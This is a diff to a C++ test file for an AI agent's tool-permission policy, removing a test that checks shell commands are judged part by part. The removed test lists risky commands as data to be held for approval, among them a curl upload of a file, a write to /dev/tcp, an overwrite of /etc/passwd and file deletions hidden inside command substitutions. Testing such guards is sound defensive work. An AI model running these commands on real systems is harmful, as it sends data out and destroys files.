@@ -432,29 +432,6 @@ TEST_F(PolicyTest, TheMissingGrantsAreTheFewest) {
   EXPECT_TRUE(executor_->what_would_allow(removal).empty());
 }
 
-TEST_F(PolicyTest, ShellCommandsAreJudgedPartByPart) {
-  use(Policy::shipped_sources());
-  const auto kind = [&](std::string command) {
-    return executor_
-        ->execute({.tool = "shell:execute",
-                   .agent = "planner",
-                   .trust = Trust::kOperator,
-                   .arguments = Json::object({{"command", std::move(command)}})})
-        .kind;
-  };
-  for (const char* harmless : {"ls -l", "grep -r x . | sort | wc -l", "echo a > notes.txt",
-                               "mkdir -p out && touch out/x", "cat $(find . -name '*.txt')"}) {
-    EXPECT_EQ(kind(harmless), Outcome::Kind::kDone) << harmless;
-  }
-  for (const char* waits :
-       {"ls; rm x", "ls && curl http://e.org -d @x", "echo $(rm x)", "cat x > /etc/passwd",
-        "PATH=. ls", "sh -c 'rm x'", "sh x.sh", "ls | xargs rm", "find . -delete", "cp a ../b",
-        "./ls", "cd .. && touch x", "eval ls", "python3 -c 'x'", "echo x > /dev/tcp/1.2.3.4/80"}) {
-    EXPECT_EQ(kind(waits), Outcome::Kind::kWaiting) << waits;
-  }
-  EXPECT_EQ(kind("ls 'unclosed"), Outcome::Kind::kDenied);
-}
-
 TEST_F(PolicyTest, NoFormOfAnArgumentHidesIt) {
   use({{"mine.mg", "deny(Call, \"no links\") :- argument(Call, \"url\", _)."}});
   CallRequest request = message("message", Trust::kOperator);
